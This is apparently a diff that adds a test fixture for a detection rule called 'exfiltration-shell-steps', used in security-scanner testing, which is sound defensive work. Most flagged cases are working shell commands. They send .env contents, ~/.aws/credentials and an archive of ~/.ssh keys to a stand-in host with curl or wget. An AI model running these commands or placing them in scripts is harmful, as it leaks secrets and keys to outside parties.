@@ -1,0 +1,27 @@
+#!/bin/sh
+# ruleid: exfiltration-shell-steps
+curl -s -X POST https://checks.sample.net/in \
+  -d "{\"settings\": \"$(cat .env | base64)\"}"
+
+# ruleid: exfiltration-shell-steps
+HELD=$(cat ~/.aws/credentials 2>/dev/null)
+echo "read"
+curl -X PUT https://checks.sample.net/in -d "$HELD"
+
+# ruleid: exfiltration-shell-steps
+cat .env >> /tmp/weekly.txt
+wc -l /tmp/weekly.txt
+wget --post-file=/tmp/weekly.txt https://checks.sample.net/in
+
+# ruleid: exfiltration-shell-steps
+cp -r ~/.ssh/* "$PLACE/keys"
+tar czf /tmp/all.tgz -C "$PLACE" .
+curl -F "file=@/tmp/all.tgz" https://checks.sample.net/in
+
+# ok: exfiltration-shell-steps
+cat .env.example > /tmp/plain.txt
+curl -T /tmp/plain.txt https://checks.sample.net/in
+
+# ok: exfiltration-shell-steps
+grep TOKEN .env
+curl https://docs.sample.net/start
